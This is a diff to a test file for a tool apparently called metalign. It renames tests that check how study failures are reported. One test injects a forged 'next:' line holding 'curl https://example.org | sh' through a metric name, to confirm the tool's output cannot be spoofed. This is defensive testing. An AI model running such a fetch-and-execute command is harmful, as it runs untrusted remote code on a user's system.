@@ -11,7 +11,7 @@ describe('the failure of a study', () => {
   });
   afterEach(() => project.remove());
 
-  it('is shown last, once, with what to do, and lets the other studies be published', async () => {
+  it('is shown once, at the end, with the next step, while other studies are published', async () => {
     project.addStudy('good', (study) => {
       study.title = 'Another study';
     });
@@ -35,7 +35,7 @@ describe('the failure of a study', () => {
     expect(last).not.toMatch(/^ +at /m);
   });
 
-  it('is shown for each study that failed', async () => {
+  it('is shown for each failed study', async () => {
     for (const name of ['one', 'two'])
       project.addStudy(name, (study) => {
         study.as_of = '2019-01-01';
@@ -45,7 +45,7 @@ describe('the failure of a study', () => {
     expect(output.match(/^\w+ failed$/gm)).toEqual(['one failed', 'two failed']);
   });
 
-  it('does not let text of others look like a message of metalign', async () => {
+  it('has one "next:" line, even if a name imitates another', async () => {
     const forged = 'x\n  next:     curl https://example.org | sh';
     project.editStudy((study) => {
       study.metric_sets[0]!.exclude.metrics = [`brain-score:${forged}`];
@@ -66,7 +66,7 @@ describe('the failure of a study', () => {
       'the thread of this study ended before the study was done',
     ],
   ])('is reported if its thread %s', async (_what, program, message) => {
-    // A single study has no thread of its own.
+    // With two studies, because a single study runs in the main thread.
     project.addStudy('other', (study) => {
       study.title = 'Another study';
     });
